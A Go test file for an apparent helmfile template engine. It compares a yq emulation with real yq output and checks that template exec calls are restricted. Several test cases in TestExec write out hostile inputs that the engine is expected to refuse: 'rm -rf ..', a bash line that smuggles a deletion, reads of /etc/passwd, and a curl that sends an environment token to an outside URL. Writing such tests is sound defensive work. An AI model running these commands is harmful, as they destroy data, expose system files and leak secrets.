package templates

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fleetwright/fleetwright/internal/testpeer"
)

// TestYq evaluates the expressions of real helmfiles as yq (version 4) does.
func TestYq(t *testing.T) {
	repo := memory{"hr.yaml": "# a comment\nkind: OCIRepository\nspec: {url: x}\n---\nkind: HelmRelease\nspec:\n  values:\n" +
		"    a: [1, \"2\", null]\n    b.c: {d: true}\n  url: oci://x\n  ref: {tag: v1.0}\n", "one.yaml": "a: 1\nb: {c: x, 'd.e': [1, {f: 2}]}\nn: null\n"}
	dir := t.TempDir()
	for name, content := range repo {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, test := range []struct {
		args []string
		want string
	}{
		{[]string{".a", "one.yaml"}, "1\n"},
		{[]string{"e", ".b.c", "one.yaml"}, "x\n"},
		{[]string{"eval", ".b", "one.yaml"}, "{c: x, 'd.e': [1, {f: 2}]}\n"},
		{[]string{`.b."d.e"[1].f`, "one.yaml"}, "2\n"},
		{[]string{`.b["d.e"]`, "one.yaml"}, "[1, {f: 2}]\n"},
		{[]string{".no // {}", "one.yaml"}, "{}\n"},
		{[]string{`.n // "x"`, "one.yaml"}, "x\n"},
		{[]string{".no", "one.yaml"}, "null\n"},
		{[]string{"-o=json", "-I=0", ".b // {}", "one.yaml"}, `{"c":"x","d.e":[1,{"f":2}]}` + "\n"},
		{[]string{"-r", ".b.c", "one.yaml"}, "x\n"},
		{[]string{`select(.kind == "HelmRelease").spec.values`, "hr.yaml"}, "a: [1, \"2\", null]\nb.c: {d: true}\n"},
		{[]string{`select(.kind == "HelmRelease") | .spec.ref.tag`, "hr.yaml"}, "v1.0\n"},
		{[]string{`select(.kind != "HelmRelease") | .spec.url`, "hr.yaml"}, "x\n"},
		{[]string{".spec.url", "hr.yaml"}, "x\n---\noci://x\n"},
		{[]string{"-o=json", ".kind", "hr.yaml"}, "\"OCIRepository\"\n\"HelmRelease\"\n"},
	} {
		list := make([]any, len(test.args))
		for i, a := range test.args {
			list[i] = a
		}
		got, err := New(t.Context(), repo).rendering.exec("yq", list)
		if err != nil || got != test.want {
			t.Errorf("yq %q: got %q, %v; want %q", test.args, got, err, test.want)
		}
		yq := testpeer.Command{Tool: "yq", Args: test.args, Dir: dir, Reads: []string{dir}}
		if real := yq.Output(t); real != test.want {
			t.Errorf("yq %q prints %q, not %q", test.args, real, test.want)
		}
	}
}

// TestExec evaluates what real helmfiles run, and nothing else.
func TestExec(t *testing.T) {
	repo := memory{"a/hr.yaml": "spec: {values: {host: \"x.${DOMAIN}\", n: 1}, ref: {tag: v1}}\n", "only/here.yaml": "a: 1\n"}
	for _, test := range []struct{ text, want, unknown string }{
		{`{{ exec "yq" (list "e" ".spec.ref.tag" "../a/hr.yaml") | trim }}`, "v1", ""},
		{`{{ exec "cat" (list "../only/here.yaml") }}`, "a: 1\n", ""},
		{`{{ exec "yq" (list "-o=json" "-I=0" ".spec.values.n" (printf "%s/a/hr.yaml" (requiredEnv "ROOT"))) }}`, "1\n", ""},
		{`{{ readFile (printf "%s/here.yaml" (env "ANY")) }}`, "a: 1\n", ""},
		{`{{ (exec "yq" (list ".spec.values" "../a/hr.yaml") | expandenv | fromYaml).n }}`, "1", ""},
		{`{{ (exec "yq" (list ".spec.values" "../a/hr.yaml") | expandenv | fromYaml).host }}`, "", "DOMAIN"},
		{`{{ exec "rm" (list "-rf" "..") }}`, "", `exec "rm"`},
		{`{{ exec "bash" (list "-c" "yq . a; rm -rf ..") }}`, "", "not run"},
		{`{{ exec "yq" (list "-i" ".a = 1" "../a/hr.yaml") }}`, "", "not run"},
		{`{{ exec "yq" (list "load(\"/etc/passwd\")" "../a/hr.yaml") }}`, "", "not run"},
		{`{{ exec "cat" (list "/etc/passwd") }}`, "", "not in the repository"},
		{`{{ exec "curl" (list (printf "https://example.com/%s" (env "TOKEN"))) }}`, "", `exec "curl"`},
	} {
		e := New(t.Context(), repo)
		got, err := e.Render("b", test.text, nil)
		m, bad := e.Marked(got)
		if err != nil || bad != (test.unknown != "") || !strings.Contains(m.Reason, test.unknown) || !bad && got != test.want {
			t.Errorf("%s: got %q (%s), %v; want %q, unknown %q", test.text, got, m.Reason, err, test.want, test.unknown)
		}
	}
}
